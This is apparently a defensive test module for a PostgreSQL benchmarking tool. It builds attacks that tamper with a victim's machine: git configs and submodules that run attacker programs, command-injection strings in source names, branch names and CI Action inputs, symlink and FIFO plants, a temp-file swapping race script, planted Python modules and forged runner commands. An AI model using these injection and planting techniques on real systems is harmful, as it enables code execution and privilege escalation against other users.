"""Attacks by what lies on the victim's machine: repositories, paths of another account, comments of pull requests."""

from __future__ import annotations

import os
import re
import shutil
import stat
import subprocess
from collections.abc import Iterator, Mapping
from pathlib import Path

from tests.cli.test_gate_steps import INPUTS, Runner
from tests.conduct.small import PGTRIAL
from tests.repositories import Repository

from bench.reliability.ground import ENEMY, SECRET, Ground, Trap, by_command
from bench.reliability.traps_in_studies import ARCHIVE, Study, stranger

_ARMS = ("jit=on", "jit=off")
_SMALL = ("--scale", 1, "--clients", 1, "--warmup", "1s", "--duration", "1s", "--blocks", 1)

# ---- repositories

_CONFIGURED: Mapping[str, tuple[str, ...]] = {
    "a monitor of files": ("core.fsmonitor",),
    "a program in place of ssh": ("core.sshCommand",),
    "a pager": ("core.pager",),
    "a program that compares": ("diff.external",),
    "a program that lists references": ("core.alternateRefsCommand",),
    "a program that checks signatures": ("gpg.program",),
    "a program that packs archives": ("tar.tar.command",),
    "a hook of packs": ("uploadpack.packObjectsHook",),
    "a program that asks for passwords": ("core.askPass", "credential.helper"),
    "an editor": ("core.editor", "sequence.editor"),
    "filters of files": ("filter.evil.clean", "filter.evil.smudge", "filter.evil.process"),
    "a program that merges": ("merge.evil.driver",),
    "text of files by a program": ("diff.evil.textconv",),
    "hooks in another directory": ("core.hooksPath",),
}
"""The keys of a repository's own configuration whose value is a program of the attacker's, by attack."""

_HOOKS = (
    "post-checkout",
    "reference-transaction",
    "post-index-change",
    "pre-auto-gc",
    "post-rewrite",
    "fsmonitor-watchman",
)

_NAMED: Mapping[str, str] = {
    "a transport that is a command": "git:ext::sh -c id%20>%20{mark}@main",
    "a transport by a program of its own": "git:evil::x@main",
    "an option in place of a repository": "git:--upload-pack=touch {mark}@main",
    "an option in place of a reference": "git:repo@--output={mark}",
    "an option in place of a host": "git:ssh://-oProxyCommand=touch%20{mark}/x@main",
    "a shell in a reference": "git:repo@$(touch {mark})",
    "a reference with a line": "git:repo@main\ntouch {mark}",
}


def repositories() -> Iterator[Trap]:
    """Yields an attack for each way in which a repository, or its name, makes git run a program."""
    for what, keys in _CONFIGURED.items():
        yield by_command(f"a repository with {what}", lambda ground, keys=keys: _configured(ground, keys))  # type: ignore[misc]
    yield by_command("a repository with hooks", lambda ground: _configured(ground, ()))
    yield by_command("a repository with a submodule", _submodule)
    yield by_command("a repository of another account", _of_another)
    for what, text in _NAMED.items():
        yield by_command(f"a source that is {what}", lambda ground, text=text: _sources(ground, text))  # type: ignore[misc]


def _repository(ground: Ground) -> Repository:
    made = Repository(ground.work / "repo")
    made.commit(
        "first", {"configure": "#!/bin/sh\nexit 1\n", "src/a.c": "one\n", ".gitattributes": "* filter=evil diff=evil\n"}
    )
    return made


def _configured(ground: Ground, keys: tuple[str, ...]) -> Iterator[tuple[object, ...]]:
    made = _repository(ground)
    program = ground.program(ground.work / "traps" / "post-checkout")
    for key in keys:
        made.git("config", key, str(program.parent if key == "core.hooksPath" else program))
    for hook in _HOOKS if not keys else ():
        shutil.copy(program, made.path / ".git" / "hooks" / hook)
    for name in ("reference-transaction", "post-index-change"):
        shutil.copy(program, program.with_name(name))
    made.git("config", "log.showSignature", "true")
    (made.path / "src" / "a.c").touch()  # of another time than in the index, so that git compares the contents
    (ground.work / "traps").joinpath("none").touch()
    for source in ("git:repo@main", "source:repo", f"git:file://{made.path}@main"):
        yield "compare", "default", f"postgres={source}", *_SMALL


def _submodule(ground: Ground) -> Iterator[tuple[object, ...]]:
    made = _repository(ground)
    program = ground.program(ground.work / "trap")
    text = f'[submodule "x"]\n\tpath = x\n\turl = ext::{program}\n\tupdate = !{program}\n'
    made.commit("submodule", {".gitmodules": text})
    made.git("config", "protocol.ext.allow", "always")
    made.git("config", "submodule.x.update", f"!{program}")
    made.git("config", "submodule.recurse", "true")
    made.git("update-index", "--add", "--cacheinfo", f"160000,{made.git('rev-parse', 'HEAD')},x")
    made.commit("added", {})
    yield "compare", "default", "postgres=git:repo@main", *_SMALL


def _of_another(ground: Ground) -> Iterator[tuple[object, ...]]:
    made = _repository(ground)
    made.git("config", "core.fsmonitor", str(ground.program(ground.work / "trap")))
    ground.give(made.path)
    for source in ("git:repo@main", "source:repo"):
        yield "compare", "default", f"postgres={source}", *_SMALL


def _sources(ground: Ground, text: str) -> Iterator[tuple[object, ...]]:
    _repository(ground)
    ground.program(ground.work / "bin" / "git-remote-evil")
    source = text.replace("{mark}", str(ground.mark))
    yield "compare", "default", f"postgres={source}", *_SMALL
    (ground.work / "s.toml").write_text(f"[arms.a]\n[arms.b]\npostgres = '''{source}'''\n")
    yield "plan", "s.toml"


# ---- paths

_WRITES: Mapping[str, tuple[object, ...]] = {
    "the report": ("report", ARCHIVE, "-o", "{place}.html"),
    "a bundle": ("bundle", "study", "-o", "{place}"),
    "a page of results": ("publish", ARCHIVE, "-o", "{place}"),
    "a history": ("history", "add", ARCHIVE, "--in", "{place}"),
    "a summary": ("gate", *_ARMS, "--study", "s.toml", "--budget", "1s", "--summary", "{place}"),
    "JUnit's file": ("gate", *_ARMS, "--study", "s.toml", "--budget", "1s", "--junit", "{place}"),
    "the results": ("compare", *_ARMS, *_SMALL, "--results", "{place}"),
}
"""The commands that write to a path that they are given."""

_PLANTS = (
    "a directory of another account",
    "a link to the victim's directory",
    "a link to the victim's file",
    "a pipe",
)

_READS: Mapping[str, tuple[object, ...]] = {
    "verify": ("verify", "{place}"),
    "report": ("report", "{place}"),
    "rerun": ("rerun", "{place}", "--trust"),
    "sql": ("sql", "SELECT 1", "{place}"),
    "run": ("run", "{place}"),
    "plan": ("plan", "{place}"),
    "a load's data": ("compare", *_ARMS, *_SMALL[2:], "--query", "SELECT 1", "--data", "{place}"),
    "a script": ("compare", *_ARMS, *_SMALL, "--workload", "{place}"),
}

_RUNS: Mapping[str, tuple[object, ...]] = {
    "a server's programs": ("compare", "default", "postgres={enemy}/bin", *_SMALL),
    "a source": ("compare", "default", "postgres=source:{enemy}/source", *_SMALL),
    "a client program": ("compare", "command={enemy}/program a", "command={enemy}/program b", *_SMALL[4:]),
    "a script in Lua": ("compare", *_ARMS, *_SMALL, "--workload", "{enemy}/script.lua"),
    "a compiler": ("compare", "default", "postgres=git:repo@main,compiler={enemy}/program", *_SMALL),
}

_VARIABLES: Mapping[str, Mapping[str, str]] = {
    "PATH": {"PATH": "{enemy}/bin:/usr/bin:/bin"},
    "TMPDIR": {"TMPDIR": "{enemy}/tmp"},
    "the state directory": {"PGTRIAL_STATE": "{enemy}/tmp"},
    "the home": {"HOME": "{enemy}"},
    "a service file": {"PGSERVICEFILE": "{enemy}/pipe", "PGSERVICE": "x"},
}


def written() -> Iterator[Trap]:
    """Yields an attack for each option that names a file to write, where another account has put something."""
    for what, words in _WRITES.items():
        for plant in _PLANTS:
            yield by_command(
                f"{plant} in the place of {what}",
                lambda ground, words=words, plant=plant: _planted(ground, words, plant),  # type: ignore[misc]
            )
    yield Trap("links and temporary names planted in a study's directory by its former owner", _seeded)


def read() -> Iterator[Trap]:
    """Yields an attack for each way in which a file or a program of another account is named."""
    for what, words in _READS.items():
        for plant in ("a pipe", "a device"):
            yield by_command(
                f"{plant} for {what}",
                lambda ground, words=words, plant=plant: _planted(ground, words, plant),  # type: ignore[misc]
            )
    for what, words in _RUNS.items():
        yield by_command(f"{what} of another account", lambda ground, words=words: _run(ground, words))  # type: ignore[misc]
    for what, variables in _VARIABLES.items():
        yield Trap(f"{what} of another account", lambda ground, variables=variables: _named(ground, variables))  # type: ignore[misc]
    yield Trap("modules in the current directory, which is another account's", _modules)


def _enemy(ground: Ground) -> None:
    """Fills the other account's directory with its traps."""
    shutil.rmtree(ground.enemy)
    for name in ("program", "bin/postgres", "bin/initdb", "bin/pg_config", "bin/git", "bin/psql", "source/configure"):
        ground.program(ground.enemy / name)
    (ground.enemy / "tmp").mkdir()
    (ground.enemy / "script.lua").write_text(f"function event() os.execute('id > {ground.mark}') end\n")
    (ground.enemy / ".gitconfig").write_text(f"[core]\n\tfsmonitor = {ground.enemy}/program\n")
    for module in ("polars.py", "psycopg.py", "sitecustomize.py", "pgtrial.py"):
        (ground.enemy / module).write_text(f"open({str(ground.mark)!r}, 'a').write('0')\n")
    (ground.enemy / "source" / "Makefile").write_text(f"all install:\n\tid > {ground.mark}\n")
    os.mkfifo(ground.enemy / "pipe")
    (ground.enemy / "link").symlink_to(ground.victim)
    ground.enemy.chmod(0o755)
    ground.give(ground.enemy)


def _planted(ground: Ground, words: tuple[object, ...], plant: str) -> Iterator[tuple[object, ...]]:
    _enemy(ground)
    (ground.work / "s.toml").write_text('[load]\nworkload = "select-only"\n')
    if ARCHIVE in words or "study" in words:
        stranger(ground, Study("", ""))
    place = ground.enemy / "plant"
    if plant == "a pipe":
        os.mkfifo(place)
    elif plant == "a device":
        place = Path("/dev/zero")
    elif plant != _PLANTS[0]:
        place.symlink_to(ground.victim if plant == _PLANTS[1] else ground.victim / "secret")
    else:
        place = place / "new"
        place.parent.mkdir()
    if place.name == "plant" and words[-1] == "{place}.html":
        place.rename(f"{place}.html")
    ground.give(ground.enemy)
    before = _by_root(ground.enemy)
    yield tuple(str(word).replace("{place}", str(place)) for word in words)
    if made := _by_root(ground.enemy) - before:
        ground.mark.write_text(f"root wrote {made}")


def _by_root(directory: Path) -> set[str]:
    """Returns the files and directories that root owns below a directory of another account."""
    return {str(path) for path in directory.rglob("*") if path.lstat().st_uid == 0}


def _run(ground: Ground, words: tuple[object, ...]) -> Iterator[tuple[object, ...]]:
    _enemy(ground)
    _repository(ground)
    yield tuple(str(word).replace("{enemy}", str(ground.enemy)) for word in words)


def _named(ground: Ground, variables: Mapping[str, str]) -> Iterator[str]:
    """Runs commands of the victim while the account that owns a directory of the environment, such as TMPDIR, exchanges
    all that root makes there."""
    _enemy(ground)
    _repository(ground)
    archive = stranger(ground, Study("", ""))
    filled = {name: text.replace("{enemy}", str(ground.enemy)) for name, text in variables.items()}
    enemy = ["setpriv", f"--reuid={ENEMY}", "--regid=nogroup", "--clear-groups", "sh", "-c", _EXCHANGES]
    with subprocess.Popen([*enemy, "sh", ground.enemy / "tmp", ground.victim]) as exchanges:
        try:
            for words in (
                ("verify", archive),
                ("report", archive, "-o", ground.work / "r.html"),
                ("list",),
                ("compare", "default", "postgres=git:repo@main", *_SMALL),
                ("cleanup",),
            ):
                yield from ground.failures(ground.pgtrial(*words, **filled))
        finally:
            exchanges.kill()


_EXCHANGES = """
while :; do
    for each in "$1"/*; do
        [ -L "$each" ] || [ ! -e "$each" ] || { mv "$each" "$1/.was.$$" && ln -s "$2" "$each"; } 2>/dev/null
        rm -rf "$1/.was.$$" 2>/dev/null
    done
    sleep 0.01
done
"""


def _modules(ground: Ground) -> Iterator[str]:
    _enemy(ground)
    for words in (("verdict", stranger(ground, Study("", ""))), ("compare", *_ARMS, *_SMALL)):
        yield from ground.failures(ground.pgtrial(*words, cwd=ground.enemy, program=PGTRIAL))


def _seeded(ground: Ground) -> Iterator[str]:
    """Makes links to the victim's files under the temporary names of all that a study's directory gets."""
    stranger(ground, Study("", ""))
    study = ground.work / "study"
    names = (
        "verdict.json",
        "report.md",
        "report.html",
        "plan.json",
        "study.toml",
        "statement_plans.json",
        "published.json",
    )
    for name in names:
        for planted in (f".{name}.tmp", f"{name}.tmp", f".{name}.part"):
            (study / planted).symlink_to(ground.victim / "secret")
    (study / "report.html").unlink(missing_ok=True)
    (study / "report.html").symlink_to(ground.victim / "secret")
    for words in (("report", "study"), ("bundle", "study", "-o", "again.tar.xz"), ("verify", "again.tar.xz")):
        yield from ground.failures(ground.pgtrial(*words))
    mode = (ground.victim / "secret").stat().st_mode
    if not stat.S_ISREG(mode) or (ground.victim / "secret").read_text() != SECRET:
        yield "root wrote into the victim's file"


# ---- comments

_INPUTS: Mapping[str, str] = {
    "base": "$(touch {mark})`touch {mark}`",
    "head": '"; touch {mark}; "',
    "study": "'; touch {mark}; '.toml",
    "budget": "$(touch {mark})",
    "profile": "--results={mark}",
    "name": '"; touch {mark} #`$(touch {mark})',
    "install": "--index-url=http://evil; touch {mark}",
    "fail_on": "worse; touch {mark}",
}
_BRANCHES = (
    "postgres=git:.@$(touch${IFS}{mark})",
    "postgres=git:.@;touch${IFS}{mark}",
    "postgres=git:.@--output={mark}",
)
_FORGED = "<!-- pgtrial gate: gate -->\n### pgtrial gate: pass\n"


def comments() -> Iterator[Trap]:
    """Yields an attack for each text that reaches the steps of the Action: inputs, names of branches, comments,
    questions.
    """
    for name, text in _INPUTS.items():
        yield Trap(f"a shell in the input {name} of the Action", lambda ground, one={name: text}: _step(ground, one))  # type: ignore[misc]
    for text in _BRANCHES:
        yield Trap(f"the name of a branch that is {text}", lambda ground, text=text: _step(ground, {"head": text}))  # type: ignore[misc]
    yield Trap("an outsider's comment with the gate's mark", _forged)
    yield Trap("an error's text with the runner's commands and another gate's mark", _commanded)


def _runner(ground: Ground) -> Runner:
    root = ground.work / "runner"
    root.mkdir()
    made = Runner(root, ground.commands.folder / "pgtrial")
    (made.work / "gate.toml").write_text('[load]\nworkload = "select-only"\n')
    return made


def _inputs(**given: str) -> dict[str, str]:
    return {**INPUTS, "base": "jit=on", "head": "jit=off", "budget": "1s", **given}


def _step(ground: Ground, given: Mapping[str, str]) -> Iterator[str]:
    filled = {name: text.replace("{mark}", str(ground.mark)) for name, text in given.items()}
    made = _runner(ground)
    for step in made.action(**_inputs(**filled)).values():
        if "Traceback" in step.stderr:
            yield f"a step ended with a traceback: {step.stderr[-300:]}"
    if "t0ken" in (made.folder / "calls").read_text() if (made.folder / "calls").exists() else False:
        yield "the token is among the words of a command"


def _forged(ground: Ground) -> Iterator[str]:
    made = _runner(ground)
    (made.folder / "comment-1").write_text(_FORGED)
    made.action(**_inputs())
    if made.comments()["comment-1"] != _FORGED or "comment-7" not in made.comments():
        yield "the comment of the outsider was taken for the gate's"


def _commanded(ground: Ground) -> Iterator[str]:
    made = _runner(ground)
    evil = "jit=off\n::set-env name=PATH::/evil\n::add-mask::x\n<!-- pgtrial gate: other -->"
    for step in made.action(**_inputs(head=evil)).values():
        if re.search(r"^\s*::(set-env|add-mask)", step.stdout + step.stderr, re.MULTILINE):
            yield "the runner was given a command of the attacker's"
    texts = [*made.comments().values(), *(path.read_text() for path in made.gate.glob("summary.md"))]
    if any(re.search(r"^<!-- pgtrial gate: other", text, re.MULTILINE) for text in texts):
        yield "a comment begins a line with the mark of another gate"
    if any(re.search(r"^(PATH|status)=.*\n.*status=", path.read_text()) for path in made.root.glob("output")):
        yield "an output of the step was written twice"
